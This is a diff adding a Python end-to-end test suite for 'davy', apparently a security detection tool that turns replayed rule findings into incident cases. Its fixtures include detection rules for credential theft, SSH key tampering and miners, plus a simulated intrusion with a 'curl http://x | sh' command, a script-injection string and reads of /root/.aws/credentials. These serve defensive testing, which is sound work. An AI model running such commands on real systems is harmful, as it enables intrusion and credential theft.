@@ -1,0 +1,335 @@
+# SPDX-License-Identifier: Apache-2.0
+"""davy case from end to end: a capture replayed into a store, listed, shown, exported, closed; on SQLite and on a real PostgreSQL."""
+import html.parser
+import json
+import os
+import pathlib
+import signal
+import subprocess
+import tempfile
+import time
+import unittest
+import uuid
+
+import jsonschema
+
+import captures as c
+import postgres
+import watching
+
+DAVY = os.environ['DAVY']
+PATIENCE = 60
+SCHEMA = json.loads((pathlib.Path(__file__).parents[2] / 'docs/case-schema.json').read_text())
+RULES = '''
+- rule: Keys replaced
+  desc: d
+  condition: evt.type = openat and fd.name endswith authorized_keys and evt.is_open_write = true
+  output: "keys by %proc.name <b>%proc.cmdline</b>"
+  priority: CRITICAL
+  tags: [kind:threat, axis:intent, by:behaviour, by:key, purpose:access, row:10, T1098.004, evidence:conclusive]
+- rule: Dropped file
+  desc: d
+  condition: evt.type = openat and fd.name startswith /tmp/ and evt.is_open_write = true
+  output: "wrote %fd.name"
+  priority: WARNING
+  tags: [kind:context, by:place]
+- rule: Miner shape
+  desc: d
+  condition: evt.type = execve and proc.exepath startswith /tmp/
+  output: "mines: %proc.exepath"
+  priority: CRITICAL
+  tags: [kind:threat, axis:intent, axis:harm, by:shape, purpose:mining, row:18, T1496.001, evidence:conclusive]
+- rule: Secrets read
+  desc: d
+  condition: evt.type = openat and fd.name endswith credentials
+  output: "read %fd.name"
+  priority: ERROR
+  tags: [kind:threat, axis:harm, by:behaviour, purpose:theft, row:28, T1552.001]
+- rule: Service spawns a shell
+  desc: d
+  condition: evt.type = execve and proc.name = sh and proc.cmdline contains curl
+  output: "%proc.pname spawned %proc.cmdline"
+  priority: ERROR
+  tags: [kind:threat, axis:intent, by:behaviour, purpose:access, row:27, T1190]
+'''
+S = 1_000_000_000
+HOSTILE = '\x1b[2J<script>alert(1)</script>"\'&\u202e\u2028'
+
+
+class Checker(html.parser.HTMLParser):
+    """No script, nothing from elsewhere, every tag closed that must be."""
+    VOID = {'meta', 'br', 'rect', 'circle', 'line', 'path'}
+
+    def __init__(self):
+        super().__init__()
+        self.open, self.seen = [], set()
+
+    def handle_starttag(self, tag, attrs):
+        self.seen.add(tag)
+        for name, value in attrs:
+            assert not name.startswith('on') and 'src' != name, (tag, name)
+            assert name != 'href' or value.startswith('#'), value
+        if tag not in self.VOID:
+            self.open.append(tag)
+
+    def handle_startendtag(self, tag, attrs):
+        self.seen.add(tag)
+
+    def handle_endtag(self, tag):
+        assert self.open and self.open[-1] == tag, (tag, self.open[-5:])
+        self.open.pop()
+
+
+def intrusion():
+    """redis runs a shell, which drops a program; cron runs that one later, in another line of processes."""
+    return [
+        c.execve('/usr/bin/redis-server', ['redis-server'], comm='redis-server', pid=50, ppid=1, start=50, time=1 * S),
+        c.execve('/bin/sh', ['sh', '-c', 'curl http://x | sh ' + HOSTILE], comm='sh', pid=100, ppid=50, pstart=50, start=500, time=2 * S),
+        c.openat('/tmp/x', flags=1, comm='sh', pid=100, ppid=50, pstart=50, start=500, time=3 * S),
+        c.openat('/root/.aws/credentials', comm='sh', pid=100, ppid=50, pstart=50, start=500, time=4 * S),
+        c.execve('/tmp/x', ['x'], comm='x', pid=900, ppid=1, start=900, time=60 * S),
+        c.openat('/root/.ssh/authorized_keys', flags=1, comm='tidy', pid=7000, ppid=1, start=7000, time=61 * S),
+    ]
+
+
+class Cases(unittest.TestCase):
+    def setUp(self):
+        signal.signal(signal.SIGALRM, self.too_long)
+        signal.alarm(3 * PATIENCE)
+        self.addCleanup(signal.alarm, 0)
+        folder = tempfile.TemporaryDirectory()
+        self.addCleanup(folder.cleanup)
+        self.folder = pathlib.Path(folder.name)
+        self.rules = self.folder / 'rules.yaml'
+        self.rules.write_text(RULES)
+        self.env = {**os.environ, 'TZ': 'UTC', 'LC_ALL': 'C.UTF-8'}
+        self.env.pop('DAVY_STORE', None)
+        self.store = self.place()
+
+    def place(self):
+        return str(self.folder / 'davy.db')
+
+    def too_long(self, *args):
+        raise AssertionError('this takes too long')
+
+    def davy(self, *args, code=0, **more):
+        done = subprocess.run([DAVY, *map(str, args)], env={**self.env, **more.pop('env', {})}, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                              timeout=PATIENCE, **more)
+        self.assertEqual(done.returncode, code, done.stderr.decode())
+        return done.stdout.decode()
+
+    def case(self, *args, **more):
+        return self.davy('case', args[0], '--store', self.store, *args[1:], **more)
+
+    def replay(self, *records, name='a.davycap'):
+        path = c.capture(self.folder / name, *records)
+        self.davy('replay', '-q', '-r', self.rules, '--store', self.store, '-f', 'json=/dev/null', path)
+
+    def listed(self, *args):
+        return json.loads(self.case('list', '-f', 'json', *args))['cases']
+
+    def export(self, number):
+        whole = json.loads(self.case('export', number))
+        jsonschema.validate(whole, SCHEMA)
+        return whole
+
+    def test_one_intrusion_and_an_unrelated_act_are_two_cases(self):
+        self.replay(*intrusion())
+        cases = self.listed()
+        self.assertEqual([(k['verdict'], k['purposes']) for k in cases], [('unwanted', ['access']), ('malicious', ['mining', 'access', 'theft'])])
+        whole = self.export(cases[1]['id'])
+        self.assertEqual([f['rule'] for f in whole['findings']], ['Service spawns a shell', 'Dropped file', 'Secrets read', 'Miner shape'])
+        self.assertEqual((whole['ways_in'][0]['rule'], whole['ways_in'][0]['strength']), ('Service spawns a shell', 'strong'))
+        self.assertIn('/root/.aws/credentials', [r['path'] for r in whole['at_risk']])
+        self.assertEqual([s['step'] for s in whole['next']], ['isolate', 'preserve', 'redeploy', 'rotate'])
+        self.assertEqual([p['name'] for p in whole['findings'][0]['line']], ['sh', 'redis-server'])
+
+    def test_what_people_see(self):
+        self.replay(*intrusion())
+        text = self.case('show', 1)
+        self.assertIn('USD a day, estimated for 100 %', text)
+        for part in ('Case 1', 'OPEN', 'MALICIOUS', 'against the owner\'s intent ●●●', 'The way in', 'Timeline', '22:14:20', 'At risk here too',
+                     'isolate', 'preserve', 'redeploy', 'cannot be closed as cleaned', 'redis-server(50)'):
+            self.assertIn(part, text)
+        for bad in ('\x1b', '\u202e', '\u2028'):
+            self.assertNotIn(bad, text)
+        self.assertTrue(all(len(l) <= 80 for l in self.case('show', 1, env={'COLUMNS': '80'}).splitlines()))
+        self.assertIn('MALICIOUS', self.case('list').splitlines()[1])
+
+    def test_a_page_that_needs_nothing_and_runs_nothing(self):
+        self.replay(*intrusion())
+        page = self.folder / 'case.html'
+        self.case('export', 1, '--format', 'html', '--output', page)
+        text = page.read_text()
+        self.assertEqual(page.stat().st_mode & 0o777, 0o600)
+        checker = Checker()
+        checker.feed(text)
+        self.assertEqual(checker.open, [])
+        self.assertNotIn('script', checker.seen)
+        self.assertGreaterEqual(text.count('<svg'), 4)
+        self.assertIn('&lt;script&gt;', text)
+        for bad in ('\x1b', '\u202e', '\u2028', 'http-equiv="refresh"'):
+            self.assertNotIn(bad, text)
+        self.case('export', 1, '--output', page, code=3)
+
+    def test_repeats_are_one_finding_with_a_count(self):
+        self.replay(*[c.openat('/root/.aws/credentials', comm='sh', time=i * 20 * S) for i in range(1, 40)])
+        whole = self.export(1)
+        self.assertEqual([(f['rule'], f['count']) for f in whole['findings']], [('Secrets read', 39)])
+        self.assertEqual(whole['seen'], 39)
+
+    def test_it_goes_on_after_a_restart_and_after_it_was_closed(self):
+        parts = intrusion()
+        self.replay(*parts[:4])
+        self.replay(*parts[:1], *parts[4:5], name='b.davycap')
+        self.assertEqual(len(self.listed()), 1)
+        self.case('note', 1, 'isolated', HOSTILE.replace('\x1b', '\x07'))
+        self.case('close', 1, '--reason', ' Cleaned. ', code=2)
+        self.case('close', 1, code=2)
+        self.case('close', 1, '--reason', 'redeployed')
+        self.case('close', 1, '--reason', 'again', code=3)
+        self.case('note', 99, 'x', code=3)
+        self.assertEqual(self.listed(), [])
+        self.assertEqual([(k['status'], k['reason']) for k in self.listed('--all')], [('closed', 'redeployed')])
+        self.assertIn('isolated', self.case('show', 1))
+        self.assertNotIn('\x07', self.case('show', 1))
+        self.replay(*parts[:1], *parts[4:5], name='c.davycap')
+        new = self.listed()
+        self.assertEqual([(k['id'], k['follows']) for k in new], [(2, 1)])
+
+    def test_a_store_that_cannot_be_ends_a_replay(self):
+        path = c.capture(self.folder / 'a.davycap', *intrusion())
+        done = subprocess.run([DAVY, 'replay', '-q', '-r', self.rules, '--store', self.folder, path], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+        self.assertEqual((done.returncode, done.stdout), (3, b''))
+        self.assertIn(b'is no file', done.stderr)
+
+    def test_mistakes_are_told(self):
+        self.case('list', code=3)
+        self.case('show', 'x', code=2)
+        self.case('show', code=2)
+        self.davy('case', 'nonsense', code=2)
+        self.davy('case', code=2)
+        self.davy('case', '--help')
+
+    def ingest(self, **more):
+        p = subprocess.Popen([DAVY, 'case', 'ingest', '--for-watch', '--store', self.store], env=self.env, stdin=subprocess.PIPE,
+                             stdout=subprocess.PIPE, **more)
+        self.addCleanup(p.stdout.close)
+        self.addCleanup(p.stdin.close)
+        self.addCleanup(p.wait)
+        self.addCleanup(p.kill)
+        self.assertEqual(p.stdout.readline(), b'ready\n')
+        return p
+
+    @staticmethod
+    def line(n):
+        return json.dumps({'rule': f'r{n}', 'priority': 'Critical', 'kind': 'threat', 'num': n, 'hostname': 'h', 'message': f'word{n}x',
+                           'output_fields': {'evt.time': n * S}, 'subject': {'process': f'p{n}', 'container_id': 'c1'}}).encode() + b'\n'
+
+    def test_what_was_committed_survives_a_kill(self):
+        """Lines go in as fast as they are taken; 200 ms after a line was given it must be there, whatever happens to the writer."""
+        p = self.ingest()
+        given = 0
+        begin = time.monotonic()
+        while time.monotonic() - begin < 1.0:
+            given += 1
+            p.stdin.write(self.line(given))
+            p.stdin.flush()
+            time.sleep(0.002)
+        time.sleep(1.5)  # commits within 200 ms; the rest is for a busy machine
+        for n in range(given + 1, given + 200):  # some of these are in flight
+            p.stdin.write(self.line(n))
+        p.stdin.flush()
+        p.send_signal(signal.SIGKILL)
+        p.wait()
+        found = {f['rule'] for f in self.export(1)['findings']}
+        self.assertEqual([n for n in range(1, given + 1) if f'r{n}' not in found], [])
+        again = self.ingest()
+        again.stdin.write(self.line(5000))
+        again.stdin.close()
+        self.assertEqual(again.wait(PATIENCE), 0)
+        self.assertIn('r5000', {f['rule'] for f in self.export(1)['findings']})
+        self.assertEqual(len(self.listed('--all')), 1)
+
+    def test_lines_that_are_no_findings_are_left_out(self):
+        lines = b'nonsense\n' + self.line(1) + b'{}\n[1,2]\n' + b'x' * 1_000_000 + b'\n' + self.line(2)[:-1]
+        self.davy('case', 'ingest', '--store', self.store, code=3, input=lines)
+        self.assertEqual(self.export(1)['seen'], 2)
+
+    def test_the_writer_is_of_no_terminal(self):
+        """^C reaches all processes of a terminal: the writer goes on until its input ends."""
+        p = self.ingest()
+        for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
+            p.send_signal(s)
+        p.stdin.write(self.line(1))
+        p.stdin.close()
+        self.assertEqual(p.wait(PATIENCE), 0)
+        self.assertEqual(self.export(1)['seen'], 1)
+
+
+class CasesOnPostgres(Cases):
+    """The same on the other store."""
+    @classmethod
+    def setUpClass(cls):
+        why = postgres.missing()
+        if why:
+            raise unittest.SkipTest(why)
+        cls.server = postgres.Server()
+        cls.addClassCleanup(cls.server.stop)
+
+    def place(self):
+        return self.server.new_database()
+
+    def test_the_server_may_be_away_for_a_while(self):
+        p = self.ingest(stderr=subprocess.DEVNULL)
+        p.stdin.write(self.line(1))
+        p.stdin.flush()
+        time.sleep(1)
+        self.server.halt()
+        p.stdin.write(self.line(2))
+        p.stdin.flush()
+        time.sleep(1)
+        self.server.start()
+        p.stdin.write(self.line(3))
+        p.stdin.close()
+        self.assertEqual(p.wait(PATIENCE), 0)
+        self.assertEqual({f['rule'] for f in self.export(1)['findings']}, {'r1', 'r2', 'r3'})
+
+    def test_a_password_is_not_shown(self):
+        done = subprocess.run([DAVY, 'case', 'list', '--store', 'postgres://u:hunter2@127.0.0.1:1/x'], env=self.env, stderr=subprocess.PIPE)
+        self.assertEqual(done.returncode, 3)
+        self.assertNotIn(b'hunter2', done.stderr)
+
+
+class CasesOfALiveWatch(unittest.TestCase):
+    """What was found is kept, also when the watcher is killed at once."""
+    def test_a_watcher_that_is_killed(self):
+        fine, why = watching.can_watch()
+        if not fine:
+            self.skipTest(why)
+        word = f'davy{uuid.uuid4().hex[:12]}'
+        with tempfile.TemporaryDirectory() as name:
+            folder = pathlib.Path(name)
+            rules, store = folder / 'rules.yaml', folder / 'davy.db'
+            rules.write_text(watching.SEEN.format(word=word).replace('DEBUG', 'WARNING'))
+            w = watching.Watcher(folder, [rules], '--store', store)
+            try:
+                child = subprocess.Popen(['sh', '-c', f': {word}; sleep 1'])
+                watching.wait_for(lambda: any(word in f['output'] for f in w.findings()))
+                time.sleep(0.5)
+            finally:
+                w.kill()
+            child.wait()
+            def listed():
+                done = subprocess.run([DAVY, 'case', 'list', '--all', '-f', 'json', '--store', store], stdout=subprocess.PIPE)
+                return done.returncode == 0 and json.loads(done.stdout)['cases']
+            cases = watching.wait_for(listed)
+            self.assertEqual(len(cases), 1)
+            whole = json.loads(subprocess.run([DAVY, 'case', 'export', str(cases[0]['id']), '--store', store], stdout=subprocess.PIPE, check=True).stdout)
+            line = whole['findings'][0]['line']
+            self.assertEqual([p['pid'] for p in line[:2]], [child.pid, os.getpid()])
+            self.assertTrue(all(p['start'] for p in line[:2]))
+
+
+if __name__ == '__main__':
+    unittest.main(verbosity=2)
